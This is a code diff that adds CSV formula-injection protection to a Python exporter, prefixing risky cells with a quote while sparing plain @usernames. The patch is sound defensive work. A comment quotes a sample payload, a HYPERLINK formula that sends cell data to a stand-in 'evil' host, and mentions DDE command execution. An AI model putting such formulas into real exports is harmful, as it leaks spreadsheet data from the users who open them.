@@ -674,13 +674,29 @@ def export_csv_row(row: ExportRow) -> list[object]:
             "; ".join(dict.fromkeys(mt.surface for mt in row.matches)), row.text]
 
 
+# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell that starts with one of these as a
+# formula: =HYPERLINK("http://evil/?"&A1,"click") in a post would leak the sheet or run a DDE command.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# ...except a bare @username (Telegram's letters, digits and _), our channel label: it cannot call a
+# function or reach the network, and a quote in front of every channel would spoil the column.
+_USERNAME = re.compile(r"@[A-Za-z][A-Za-z0-9_]{2,31}")
+
+
+def spreadsheet_safe(cell: object) -> object:
+    """A CSV cell that a spreadsheet shows as text: a text cell starting with ``= + - @``, a tab or a
+    carriage return gets a leading ``'`` (numbers and a plain ``@username`` are left alone)."""
+    if isinstance(cell, str) and cell.startswith(_FORMULA_START) and not _USERNAME.fullmatch(cell):
+        return "'" + cell
+    return cell
+
+
 def csv_line(cells: Iterable[object]) -> str:
-    """One CSV record without its line end (the caller adds "\\n").
+    """One CSV record without its line end (the caller adds "\\n"); text cells are ``spreadsheet_safe``.
 
     Written with a "\\r\\n" terminator so that the writer quotes any field holding "\\n" or "\\r"
     (with no terminator it would leave a bare newline in an unquoted field and break the row)."""
     buf = io.StringIO()
-    csv.writer(buf, lineterminator="\r\n").writerow(list(cells))
+    csv.writer(buf, lineterminator="\r\n").writerow([spreadsheet_safe(c) for c in cells])
     return buf.getvalue()[:-2]
 
 
